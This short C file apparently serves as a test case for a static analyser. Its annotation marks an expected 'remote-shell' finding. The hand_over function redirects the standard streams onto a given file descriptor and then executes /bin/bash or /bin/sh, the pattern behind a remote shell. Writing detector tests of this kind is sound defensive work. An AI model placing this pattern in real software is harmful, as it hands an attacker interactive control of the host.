#include <stddef.h>
#include <unistd.h>

#include "console.h"

void hand_over(int fd) {
    static const char *const shells[] = {"/bin/bash", "/bin/sh"};
    take_streams(fd);
    for (size_t i = 0; i < 2; i++)
        // report@+1: update/remote-shell
        execl(shells[i], shells[i], (char *)NULL);
}
